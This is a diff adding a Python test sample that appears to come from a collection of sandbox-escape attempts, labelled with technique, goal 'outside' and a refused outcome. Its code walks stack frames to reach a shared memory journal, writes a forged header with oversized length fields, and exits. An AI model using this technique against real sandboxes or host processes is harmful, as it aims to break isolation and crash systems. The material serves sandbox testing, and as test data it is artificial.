@@ -1,0 +1,22 @@
+# origin: own
+# technique: a journal that claims more than it holds, left by a worker that ends
+# goal: outside
+# outcome: refused:attribute-not-allowed | refused:import-not-allowed | refused:underscore-attribute
+# kernel: CRASHED
+import os
+import struct
+import sys
+def find_journal():
+    back = sys._getframe()
+    while back is not None:
+        if "memory" in back.f_locals:
+            return back.f_locals["memory"]
+        back = back.f_back
+
+
+def on_execute_post_login(event, api):
+    memory = find_journal()
+    size = len(memory)
+    sequence = int.from_bytes(memory[:8], sys.byteorder)
+    memory[:28] = struct.pack("=QQIII", sequence, 0, 2**32 - 1, 1, 2**32 - 1)
+    os._exit(1)
